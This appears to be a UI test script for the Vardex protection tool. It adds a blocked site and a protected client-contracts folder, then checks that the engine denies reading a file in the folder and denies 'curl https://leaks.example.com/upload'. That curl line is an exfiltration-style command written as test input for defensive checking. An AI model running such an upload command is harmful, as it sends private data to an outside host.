# A site and a folder added on the protection page reach the policy file once each change is
# confirmed, and the engine's own check then refuses both.
folder="$HOME/client-contracts"
mkdir -p "$folder"
app_start
step wait-until connected 30
step open-window dashboard
step page protection
step type newSite leaks.example.com
step click addSite
step wait-until idle 20
step click policyPreviewConfirm
step wait-until idle 20
step click addFolder
step select folderPicker "$folder"
step wait-until idle 20
step click policyPreviewConfirm
step wait-until idle 20
step capture protection

policy="$HOME/.config/talvenor/vardex/policy.yaml"
expect_in "$policy" "leaks.example.com" "the policy file"
expect_in "$policy" "$folder" "the policy file"
"$VARDEX_ENGINE_EXE" check --json --read "$folder/terms.pdf" >"$ROAD_DIR/check-folder.json" || true
expect_in "$ROAD_DIR/check-folder.json" '"outcome":"deny"' "the engine's check of a file in the folder"
"$VARDEX_ENGINE_EXE" check --json --shell "curl https://leaks.example.com/upload" >"$ROAD_DIR/check-site.json" || true
expect_in "$ROAD_DIR/check-site.json" '"outcome":"deny"' "the engine's check of the site"
app_quit
